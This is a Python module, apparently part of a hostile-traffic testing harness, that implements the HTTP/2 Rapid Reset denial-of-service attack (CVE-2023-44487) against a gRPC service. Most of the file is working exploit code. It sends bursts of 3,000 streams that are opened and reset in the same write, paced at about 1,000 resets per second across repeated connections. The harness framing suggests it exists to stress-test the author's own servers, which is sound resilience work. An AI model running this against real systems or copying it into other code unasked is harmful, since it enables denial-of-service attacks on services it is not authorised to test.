"""Rapid reset (CVE-2023-44487): requests without a key that are cancelled in the same write."""

from penstock.proofs.hostile.attacks.attack import AttackOver, AttackRun, Pace
from penstock.proofs.hostile.attacks.floods import GENERATE
from penstock.proofs.hostile.wire.grpc_call import call_headers, framed
from penstock.proofs.hostile.wire.http2 import data_frame, header_block, headers_frame, reset_frame

RESETS_PER_S = 1_000  # on average
BURST = 3_000  # requests of one write; a proxy that resets as many upstream at once may look like an attacker itself


async def rapid_reset(run: AttackRun) -> None:
    """Send `run.count` resets in bursts, or as many as the time allows."""
    block, message = header_block(call_headers(GENERATE)), framed(b"")

    async def reset_once(run: AttackRun) -> None:
        async with run.http2() as connection:
            pace = Pace(RESETS_PER_S)
            while not connection.closed.is_set():
                if run.count and run.report.sent >= run.count:
                    raise AttackOver
                size = min(BURST, run.count - run.report.sent) if run.count else BURST
                burst = b"".join(_reset_request(connection.next_stream(), block, message) for _ in range(size))
                await connection.send(run.count_sent(burst, size))
                await pace.wait(size)

    await run.repeat(reset_once)
    run.report.findings["resets"] = run.report.sent


def _reset_request(stream: int, block: bytes, message: bytes) -> bytes:
    return headers_frame(stream, block) + data_frame(stream, message) + reset_frame(stream)
